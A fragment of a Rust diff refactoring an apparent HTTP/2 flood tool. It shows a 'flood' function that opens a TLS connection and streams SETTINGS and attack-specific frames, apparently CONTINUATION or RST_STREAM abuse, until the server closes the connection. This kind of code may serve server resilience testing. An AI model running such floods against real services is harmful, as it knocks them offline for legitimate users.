@@ -5,7 +5,7 @@ use std::io::Result;
 use testkit::frames::{
     CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, block, frame, request,
 };
-use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::io::AsyncWriteExt;
 use tokio::net::TcpStream;
 use tokio_rustls::TlsConnector;
 
@@ -19,14 +19,10 @@ const TAKEN_BACK: [u8; 4] = [0, 0, 0, 8];
 const PIECE: usize = 50;
 
 /// Floods one connection until the server ends it.
-pub(crate) async fn flood(attack: Attack, stream: TcpStream, tls: &TlsConnector) -> Result<()> {
+pub(crate) async fn flood(attack: Attack, stream: &mut TcpStream, tls: &TlsConnector) -> Result<()> {
     let stream = tls.connect(wire::host()?, stream).await?;
     let (mut read, mut write) = tokio::io::split(stream);
-    let listen = async {
-        let mut reply = vec![0; 4096];
-        while let Ok(1..) = read.read(&mut reply).await {}
-        Ok(())
-    };
+    let listen = async { tokio::io::copy(&mut read, &mut tokio::io::sink()).await.map(drop) };
     let send = async {
         write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &first(attack)].concat()).await?;
         for start in (0_u32..).step_by(PIECE) {
